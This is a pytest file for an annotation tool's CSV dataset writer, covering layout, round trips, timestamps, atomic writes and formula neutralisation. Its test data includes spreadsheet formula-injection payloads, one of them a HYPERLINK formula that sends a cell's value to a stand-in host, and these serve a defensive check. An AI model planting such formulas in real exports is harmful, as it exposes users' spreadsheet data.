"""The dataset CSV: layout, round trips through csv and pandas, formula neutralisation, atomic writes."""

from __future__ import annotations

import csv
import os
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotator.formats.csv_dataset import COLUMNS, DatasetRow, neutralise_cell, write_dataset
from tests.core.csv_reference import reference_csv

TEXT_COLUMNS = tuple(
    c for c in COLUMNS if c not in {"start", "end", "confidence", "created_at", "updated_at"}
)
HOSTILE = ("=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.test/?"&A1,"go")')
TRICKY = (
    "line one\nline two",
    "windows one\r\nwindows two",
    "a, b, and c",
    'she said "no", twice',
    '"',
    "\U0001f600 \U0001f469\U0001f3fd\u200d\U0001f52c",
    "قال المتحدث باسم الوزارة",
    "אמר דובר המשרד",
    "cafe\u0301 n\u0303 \u05e9\u05b8",
    "\u200b\u202eevil\u202c\ufeff",
    " leading and trailing ",
    "",
)


def _row(**changes: Any) -> DatasetRow:
    row = DatasetRow(
        claim_id="c1",
        document_id="d1",
        document_title="Minister resigns",
        document_outlet="The Paper",
        document_url="https://example.test/a",
        document_date="2026-11-24",
        annotator="Ana",
        start=10,
        end=25,
        quote="officials said",
        context_before="Yesterday ",
        context_after=" that",
        source_type="unnamed",
        confidence=3,
        confidence_label="medium",
        source="officials",
        cue="said",
        comment="",
        created_at=datetime(2026, 11, 25, 14, 3, 9, tzinfo=UTC),
        updated_at=None,
    )
    return row._replace(**changes)


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def _cells(path: Path) -> list[dict[str, str]]:
    header, *records = _read(path)
    assert tuple(header) == COLUMNS
    return [dict(zip(header, record, strict=True)) for record in records]


def test_columns_are_the_dataset_fields_in_order() -> None:
    assert COLUMNS == (
        "claim_id", "document_id", "document_title", "document_outlet", "document_url", "document_date",
        "annotator", "start", "end", "quote", "context_before", "context_after", "source_type", "confidence",
        "confidence_label", "source", "cue", "comment", "created_at", "updated_at",
    )  # fmt: skip
    assert DatasetRow._fields == COLUMNS


def test_values_follow_the_columns() -> None:
    row = _row()
    values = row.values()
    assert len(values) == len(COLUMNS)
    assert values[COLUMNS.index("start")] == 10
    assert values[COLUMNS.index("end")] == 25
    assert values[COLUMNS.index("quote")] == "officials said"
    assert values[COLUMNS.index("updated_at")] is None
    assert values[-2] == datetime(2026, 11, 25, 14, 3, 9, tzinfo=UTC)


def test_file_starts_with_a_bom_and_the_header_and_uses_crlf(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    assert write_dataset([_row(), _row(claim_id="c2")], path) == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\r\n") == 3
    assert b"\n" not in raw.replace(b"\r\n", b"")


def test_no_rows_writes_just_the_header(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    assert write_dataset([], path) == 0
    assert _read(path) == [list(COLUMNS)]


def test_awkward_text_survives_a_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    rows = [_row(claim_id=f"c{i}", quote=text, comment=text, source=text) for i, text in enumerate(TRICKY)]
    write_dataset(rows, path)
    cells = _cells(path)
    assert [(c["quote"], c["comment"], c["source"]) for c in cells] == [(t, t, t) for t in TRICKY]
    assert cells[0]["start"] == "10" and cells[0]["confidence"] == "3"


def test_a_full_row_reads_back_cell_for_cell(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    write_dataset([_row()], path)
    assert _read(path)[1] == [
        "c1", "d1", "Minister resigns", "The Paper", "https://example.test/a", "2026-11-24", "Ana", "10",
        "25", "officials said", "Yesterday ", " that", "unnamed", "3", "medium", "officials", "said", "",
        "2026-11-25T14:03:09Z", "",
    ]  # fmt: skip


@given(st.lists(st.text(), min_size=1, max_size=4), st.booleans())
@settings(max_examples=60, deadline=None)
def test_any_text_round_trips_verbatim_when_exact_and_neutralised_otherwise(
    texts: list[str], exact: bool
) -> None:
    rows = [_row(claim_id=str(i), quote=text, comment=text, annotator=text) for i, text in enumerate(texts)]
    expected = [t if exact else neutralise_cell(t) for t in texts]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "claims.csv"
        write_dataset(rows, path, exact=exact)
        cells = _cells(path)
    assert [c["quote"] for c in cells] == expected
    assert [c["comment"] for c in cells] == expected
    assert [c["annotator"] for c in cells] == expected


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_cell_prefixes_formula_triggers(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "said",
        "a=b",
        "1-2",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_neutralise_cell_leaves_everything_else(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_every_text_column_is_neutralised_unless_exact(tmp_path: Path, value: str) -> None:
    row = _row(**dict.fromkeys(TEXT_COLUMNS, value))
    safe, exact = tmp_path / "safe.csv", tmp_path / "exact.csv"
    write_dataset([row], safe)
    write_dataset([row], exact, exact=True)
    safe_cells, exact_cells = _cells(safe)[0], _cells(exact)[0]
    for column in TEXT_COLUMNS:
        assert safe_cells[column] == "'" + value, column
        assert exact_cells[column] == value, column


def test_numeric_columns_are_never_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    write_dataset([_row(start=0, end=3, confidence=-1, comment="-1", cue="-3")], path)
    cells = _cells(path)[0]
    assert (cells["start"], cells["end"], cells["confidence"]) == ("0", "3", "-1")
    assert (cells["comment"], cells["cue"]) == ("'-1", "'-3")


@pytest.mark.parametrize(
    ("moment", "written"),
    [
        (datetime(2026, 11, 25, 14, 3, 9, 987654, tzinfo=UTC), "2026-11-25T14:03:09Z"),
        (datetime(2026, 11, 25, 16, 3, 9, tzinfo=timezone(timedelta(hours=2))), "2026-11-25T14:03:09Z"),
        (
            datetime(2026, 11, 25, 0, 30, tzinfo=timezone(timedelta(hours=5, minutes=30))),
            "2026-11-24T19:00:00Z",
        ),
        (datetime(2026, 11, 25, 14, 3, 9), "2026-11-25T14:03:09Z"),  # naive: already UTC
        (datetime(33, 1, 2, 3, 4, 5, tzinfo=UTC), "0033-01-02T03:04:05Z"),
        (None, ""),
    ],
)
def test_times_are_utc_iso_8601_to_the_second(tmp_path: Path, moment: datetime | None, written: str) -> None:
    path = tmp_path / "claims.csv"
    write_dataset([_row(created_at=moment, updated_at=moment)], path)
    cells = _cells(path)[0]
    assert (cells["created_at"], cells["updated_at"]) == (written, written)


@pytest.mark.skipif(not hasattr(time, "tzset"), reason="needs time.tzset")
def test_a_naive_time_is_utc_whatever_the_local_zone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "Asia/Kolkata")
    time.tzset()
    try:
        path = tmp_path / "claims.csv"
        write_dataset([_row(created_at=datetime(2026, 11, 25, 14, 3, 9))], path)
        assert _cells(path)[0]["created_at"] == "2026-11-25T14:03:09Z"
    finally:
        monkeypatch.undo()
        time.tzset()


class _UnwritableTime(datetime):
    """A value that fails when the writer formats it, standing in for any error mid-export."""

    def astimezone(self, tz: Any = None) -> Any:
        raise RuntimeError("cannot format")

    def replace(self, *args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("cannot format")

    def isoformat(self, *args: Any, **kwargs: Any) -> str:
        raise RuntimeError("cannot format")


def _names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def _old_export(tmp_path: Path) -> tuple[Path, bytes]:
    path = tmp_path / "claims.csv"
    write_dataset([_row(comment="the old export")], path)
    return path, path.read_bytes()


def test_a_failed_export_keeps_the_old_file_and_leaves_no_temporary(tmp_path: Path) -> None:
    path, old = _old_export(tmp_path)
    # Enough good rows first that the temporary file really has data in it when the write fails.
    rows = [_row(claim_id=f"c{i}", comment="x" * 100) for i in range(3000)]
    rows.append(_row(created_at=_UnwritableTime(2026, 1, 1, tzinfo=UTC)))
    with pytest.raises(RuntimeError, match="cannot format"):
        write_dataset(rows, path)
    assert path.read_bytes() == old
    assert _names(tmp_path) == ["claims.csv"]


def test_an_interrupted_row_source_keeps_the_old_file(tmp_path: Path) -> None:
    path, old = _old_export(tmp_path)

    def rows() -> Iterator[DatasetRow]:
        yield _row()
        raise KeyboardInterrupt  # the user cancels, or the database goes away

    with pytest.raises(KeyboardInterrupt):
        write_dataset(rows(), path)
    assert path.read_bytes() == old
    assert _names(tmp_path) == ["claims.csv"]


def test_a_successful_export_replaces_the_old_file(tmp_path: Path) -> None:
    path, _ = _old_export(tmp_path)
    write_dataset([_row(comment="new")], path)
    assert [c["comment"] for c in _cells(path)] == ["new"]
    assert _names(tmp_path) == ["claims.csv"]


def test_a_missing_folder_fails_without_creating_anything(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        write_dataset([_row()], tmp_path / "nowhere" / "claims.csv")
    assert _names(tmp_path) == []


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_the_export_gets_ordinary_file_permissions(tmp_path: Path) -> None:
    umask = os.umask(0o022)
    try:
        path = tmp_path / "claims.csv"
        write_dataset([_row()], path)
        assert path.stat().st_mode & 0o777 == 0o644
    finally:
        os.umask(umask)


def test_pandas_reads_every_cell_back_exactly(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    path = tmp_path / "claims.csv"
    rows = [
        _row(claim_id=f"c{i}", quote=text, comment=text, context_before=text, start=i, end=i + 1)
        for i, text in enumerate((*TRICKY, *HOSTILE))
    ]
    write_dataset(rows, path, exact=True)
    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert tuple(frame.columns) == COLUMNS
    assert frame.to_numpy().tolist() == _read(path)[1:]
    expected = [*TRICKY, *HOSTILE]
    assert frame["quote"].tolist() == expected
    assert frame["comment"].tolist() == expected
    assert frame["context_before"].tolist() == expected
    assert frame["start"].tolist() == [str(i) for i in range(len(expected))]
    assert frame["created_at"].tolist() == ["2026-11-25T14:03:09Z"] * len(expected)


@pytest.mark.parametrize("value", [' =HYPERLINK("http://x")', "\n+1", "\u00a0@SUM(A1)", "  -2+3"])
def test_a_formula_behind_leading_white_space_is_neutralised_too(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


def test_progress_is_reported_and_cancelling_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from annotator.formats import csv_dataset

    monkeypatch.setattr(csv_dataset, "PROGRESS_EVERY", 3)
    out = tmp_path / "claims.csv"
    out.write_text("an earlier export", encoding="utf-8")
    seen: list[int] = []
    assert write_dataset([_row()] * 7, tmp_path / "new.csv", progress=lambda n: seen.append(n) or True) == 7
    assert seen == [3, 6]
    with pytest.raises(csv_dataset.ExportCancelled):
        write_dataset([_row()] * 7, out, progress=lambda n: False)
    assert out.read_text(encoding="utf-8") == "an earlier export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["claims.csv", "new.csv"]


# --- the fast writer writes what csv.writer wrote -----------------------------------------------


# Text that sits on the edges of the rules: the formula guard's white space and triggers (and the
# UTF-8 neighbours of the no-break space, C2 A0), the characters that force quotes, and non-ASCII
# text of every width.
EDGES = " \n\r\t\u00a0\u00c2\u00a9\u0100=+-@\"',;a1Z\uff1d\u2019\U0001f600\u0000"
edge_text = st.text(alphabet=EDGES, max_size=8) | st.text(max_size=30) | st.sampled_from(HOSTILE + TRICKY)
times = (
    st.none()
    | st.datetimes(timezones=st.sampled_from([UTC, timezone(timedelta(hours=-3)), None]))
    | st.datetimes().map(lambda moment: moment.isoformat() + "Z")
    | edge_text
)


@st.composite
def dataset_rows(draw: st.DrawFn) -> list[DatasetRow]:
    documents = draw(st.lists(st.tuples(*[edge_text] * 5), min_size=1, max_size=3))
    rows = []
    for i in range(draw(st.integers(0, 12))):
        document = draw(st.sampled_from(documents))
        rows.append(
            DatasetRow(
                draw(st.sampled_from([f"c{i}", "-c", "=1"])),
                *document,
                draw(edge_text),
                draw(st.integers(-5, 10**12)),
                # Not only ints: the writer writes any value as the csv module would.
                draw(st.integers(0, 10**6) | st.none() | st.floats(allow_nan=False)),
                draw(edge_text),
                draw(edge_text),
                draw(edge_text),
                draw(edge_text),
                draw(st.integers(-1, 9)),
                draw(edge_text),
                draw(edge_text),
                draw(edge_text),
                draw(edge_text | st.none()),
                draw(times),
                draw(times),
            )
        )
    return rows


@given(dataset_rows(), st.booleans())
@settings(max_examples=300, deadline=None)
def test_every_byte_is_what_the_csv_module_wrote(rows: list[DatasetRow], exact: bool) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "claims.csv"
        assert write_dataset(rows, path, exact=exact) == len(rows)
        assert path.read_bytes() == reference_csv(rows, exact=exact)


@pytest.mark.parametrize("exact", [False, True])
def test_many_batches_and_documents_are_written_as_the_csv_module_wrote(tmp_path: Path, exact: bool) -> None:
    # More rows than a batch and than PROGRESS_EVERY, in runs of documents that start and end
    # inside batches, with cells of every kind of trouble in every column.
    texts = [*HOSTILE, *TRICKY, "plain", "", "a, b", " -1", "2026-11-25T14:03:09.123456Z"]
    rows = [
        _row(
            claim_id=f"c{i:05}",
            document_id=f"d{i // 700}",
            document_title=texts[i // 700],
            annotator=texts[i % 5],
            start=i,
            end=i + 7,
            quote=texts[i % len(texts)],
            context_before=texts[(i * 7) % len(texts)],
            context_after=texts[(i * 11) % len(texts)],
            source=texts[(i * 3) % len(texts)] if i % 300 < 20 else "",
            comment=texts[i % 4],
            confidence=i % 5,
            created_at=texts[-1] if i % 1000 else datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
            updated_at=texts[i % len(texts)] if i % 997 == 0 else texts[-1],
        )
        for i in range(4321)
    ]
    path = tmp_path / "claims.csv"
    assert write_dataset(rows, path, exact=exact) == len(rows)
    assert path.read_bytes() == reference_csv(rows, exact=exact)


def test_a_row_of_the_wrong_length_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="20 values"):
        write_dataset([tuple(_row())[:-1]], tmp_path / "claims.csv")
    assert _names(tmp_path) == []


def test_progress_comes_at_every_multiple_whatever_the_batches(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from annotator.formats import csv_dataset

    monkeypatch.setattr(csv_dataset, "PROGRESS_EVERY", 100)
    seen: list[int] = []
    rows = [_row(claim_id=f"c{i}", document_id=f"d{i // 130}") for i in range(1050)]
    assert write_dataset(rows, tmp_path / "claims.csv", progress=lambda n: seen.append(n) or True) == 1050
    assert seen == list(range(100, 1001, 100))
    assert (tmp_path / "claims.csv").read_bytes() == reference_csv(rows)


# --- the fast way: batches whose cells need at most quotes and the guard ------------------------

# Everything of EDGES but the double quote, which sends a batch the careful way.
QUOTELESS = EDGES.replace('"', "")
quoteless_text = st.text(alphabet=QUOTELESS, max_size=8) | st.text(
    alphabet=st.characters(blacklist_characters='"', blacklist_categories=("Cs",)), max_size=40
)


@st.composite
def plain_batches(draw: st.DrawFn) -> list[DatasetRow]:
    """Claims as a project holds them: plain ids and stored times, prose with anything but '"'.

    Cells are picked from a drawn pool by a drawn random generator: drawing each of thousands of
    cells would make every example slow.
    """
    stored = draw(st.datetimes()).isoformat(timespec="microseconds") + "Z"
    pool = draw(st.lists(quoteless_text, min_size=1, max_size=30))
    names = draw(st.lists(quoteless_text, min_size=1, max_size=3))
    titles = draw(st.lists(quoteless_text | st.just("100% %s %b %d"), min_size=2, max_size=2))
    one_annotator = draw(st.booleans())  # then whole batches have one document and one annotator
    rng = draw(st.randoms(use_true_random=False))
    return [
        DatasetRow(
            f"c{i}",
            f"d{i // 300}",
            titles[i // 300],
            "",
            "https://example.test/a",
            "2026-11-24",
            names[0] if one_annotator else rng.choice(names),
            i,
            i + rng.randrange(10**6),
            rng.choice(pool),
            rng.choice(pool),
            rng.choice(pool),
            rng.choice(names),
            rng.randrange(-1, 10),
            rng.choice(names),
            rng.choice(["", "the mayor", "officials"]),
            rng.choice(["", "said"]),
            "",
            stored,
            stored,
        )
        for i in range(draw(st.integers(1, 600)))
    ]


@given(plain_batches(), st.booleans())
@settings(max_examples=40, deadline=None)
def test_plain_batches_are_written_as_the_csv_module_wrote(rows: list[DatasetRow], exact: bool) -> None:
    from annotator.formats import csv_dataset

    fast: list[int] = []
    real = csv_dataset._plain_lines

    def counted(claims, *args):  # type: ignore[no-untyped-def]
        fast.append(len(claims))
        return real(claims, *args)

    csv_dataset._plain_lines = counted  # hypothesis runs many examples: no function-scoped monkeypatch
    try:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "claims.csv"
            assert write_dataset(rows, path, exact=exact) == len(rows)
            assert path.read_bytes() == reference_csv(rows, exact=exact)
    finally:
        csv_dataset._plain_lines = real
    assert sum(fast) == len(rows)  # every row went the fast way


def test_batches_in_any_order_are_written_in_the_order_of_their_places(tmp_path: Path) -> None:
    from annotator.formats.csv_dataset import DatasetBatch, DatasetNames, write_dataset_batches

    rows = [
        _row(
            claim_id=f"c{i}", start=i, quote=f"quote {i},\r\n=1" if i % 3 else f"q{i}", comment="-1" * (i % 2)
        )
        for i in range(700)
    ]
    documents = [tuple(value.encode() for value in row[1:6]) for row in rows]
    names = DatasetNames(documents, {0: b"Ana"}, {0: b"unnamed"}, {3: b"medium"})

    def claim(row: DatasetRow) -> tuple[Any, ...]:
        values = [value.encode() if isinstance(value, str) else value for value in row]
        values[6], values[12], values[14] = 0, 0, 3  # annotator, source type and label by key
        values[18] = b"2026-11-25T14:03:09.123456Z"
        return (values[0], *values[6:])

    pieces = [range(600, 700), range(0, 256), range(256, 600)]
    batches = [DatasetBatch([claim(rows[i]) for i in piece], list(piece), names) for piece in pieces]
    # The middle batch also comes shuffled within itself.
    batches[1] = DatasetBatch(batches[1].claims[::-1], list(pieces[1])[::-1], names)
    path = tmp_path / "claims.csv"
    assert write_dataset_batches(batches, path) == 700
    expected = [row._replace(created_at="2026-11-25T14:03:09.123456Z") for row in rows]
    assert path.read_bytes() == reference_csv(expected)


# --- trailing columns (the reviewed layer's status) ---------------------------------------------


@pytest.mark.parametrize("exact", [False, True])
def test_a_trailing_status_column_follows_the_dataset_columns(tmp_path: Path, exact: bool) -> None:
    statuses = ["accepted", "edited", "=1+1", 'she said "no"', "", "line\nbreak", "a, b", " -1"]
    rows = [
        _row(claim_id=f"c{i}", quote=TRICKY[i % len(TRICKY)], comment=HOSTILE[i % len(HOSTILE)])
        for i in range(600)
    ]
    with_status = [(*row, statuses[i % len(statuses)]) for i, row in enumerate(rows)]
    path = tmp_path / "reviewed.csv"
    assert write_dataset(with_status, path, exact=exact, trailing_columns=("status",)) == 600

    # The oracle writes a 21st value as it is: neutralise it first, as the writer does unless exact.
    expected_rows = [(*row, status if exact else neutralise_cell(status)) for *row, status in with_status]
    header = ",".join(COLUMNS).encode()
    expected = reference_csv(expected_rows, exact=exact).replace(header, header + b",status", 1)
    assert path.read_bytes() == expected
    assert [record["status"] for record in _cells_with(path, "status")][:3] == [
        "accepted",
        "edited",
        "=1+1" if exact else "'=1+1",
    ]


def test_rows_without_their_trailing_values_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="21 values"):
        write_dataset([_row()], tmp_path / "reviewed.csv", trailing_columns=("status",))
    assert _names(tmp_path) == []


def _cells_with(path: Path, *extra: str) -> list[dict[str, str]]:
    header, *records = _read(path)
    assert tuple(header) == (*COLUMNS, *extra)
    return [dict(zip(header, record, strict=True)) for record in records]
